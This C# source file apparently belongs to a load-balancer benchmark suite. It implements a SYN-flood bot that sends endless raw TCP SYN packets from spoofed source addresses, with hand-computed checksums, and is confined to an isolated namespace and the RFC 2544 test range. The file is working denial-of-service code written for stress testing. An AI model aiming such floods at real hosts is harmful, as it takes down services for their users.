using System.Buffers.Binary;
using System.ComponentModel;
using System.Runtime.InteropServices;
using TorBalancer.Benchmarks.SideBySide.Load;

namespace TorBalancer.Benchmarks.Attacks.Bots;

/// <summary>
/// SYN without end from addresses where nobody is, so that none is ever answered (RFC 4987). Only in a network namespace of its own, whose
/// one interface leads nowhere: 198.18.0.0/15 is for such measurements (RFC 2544).
/// </summary>
/// <remarks>
/// <code>
///   IPv4 header (RFC 791), 20 octets: the kernel fills in length, identification and checksum (raw(7))
///   TCP header (RFC 9293), 20 octets: ports, sequence number, 0, data offset 5, SYN, window, checksum, 0
/// </code>
/// </remarks>
internal sealed unsafe class HalfOpenFlood : Bot
{
    /// <summary>198.18.0.1, where the daemon listens; senders have the other addresses below 198.19.</summary>
    public const uint Address = 0xC6120001;

    private const int InATurn = 64, HeaderLength = 20, PacketLength = 2 * HeaderLength;
    private const byte Version4Length5 = 0x45, TimeToLive = 64, Tcp = 6, DataOffset5 = 0x50, Syn = 2;

    private readonly BotTarget _target;
    private readonly int _fd;
    private uint _random = 0x9E3779B9;

    public HalfOpenFlood(BotTarget target)
    {
        _target = target;
        _fd = Native.Socket(Native.AfInet, Native.SockRaw | Native.SockCloseOnExec, Native.IpProtoRaw);
        byte* address = stackalloc byte[LoopbackSocket.AddressLength];
        LoopbackSocket.Write(address, target.Host, 0);
        if (_fd < 0 || Native.Connect(_fd, address, LoopbackSocket.AddressLength) != 0)
            throw new Win32Exception(Marshal.GetLastSystemError(), "a raw socket");
    }

    public override void Turn()
    {
        byte* packet = stackalloc byte[PacketLength];
        for (int i = 0; i < InATurn; i++)
        {
            Write(new Span<byte>(packet, PacketLength));
            if (Native.Send(_fd, packet, PacketLength, 0) == PacketLength)
                Done++;
        }
    }

    private void Write(Span<byte> packet)
    {
        packet.Clear();
        uint source = Address + 1 + (Next() % 0xFF00);
        packet[0] = Version4Length5;
        packet[8] = TimeToLive;
        packet[9] = Tcp;
        BinaryPrimitives.WriteUInt32BigEndian(packet[12..], source);
        BinaryPrimitives.WriteUInt32BigEndian(packet[16..], _target.Host);
        var tcp = packet[HeaderLength..];
        BinaryPrimitives.WriteUInt16BigEndian(tcp, (ushort)(1024 + (Next() % 60_000)));
        BinaryPrimitives.WriteUInt16BigEndian(tcp[2..], (ushort)_target.Port);
        BinaryPrimitives.WriteUInt32BigEndian(tcp[4..], Next());
        tcp[12] = DataOffset5;
        tcp[13] = Syn;
        BinaryPrimitives.WriteUInt16BigEndian(tcp[14..], 0xFFFF);

        // With the addresses, the protocol and the length in front of it (RFC 9293, section 3.1).
        uint sum = Tcp + HeaderLength + Sum(packet.Slice(12, 8)) + Sum(tcp);
        while (sum > 0xFFFF)
            sum = (sum & 0xFFFF) + (sum >> 16);
        BinaryPrimitives.WriteUInt16BigEndian(tcp[16..], (ushort)~sum);
    }

    private static uint Sum(ReadOnlySpan<byte> data)
    {
        uint sum = 0;
        for (int i = 0; i < data.Length; i += 2)
            sum += BinaryPrimitives.ReadUInt16BigEndian(data[i..]);
        return sum;
    }

    // xorshift32 (Marsaglia 2003).
    private uint Next()
    {
        _random ^= _random << 13;
        _random ^= _random >> 17;
        return _random ^= _random << 5;
    }
}
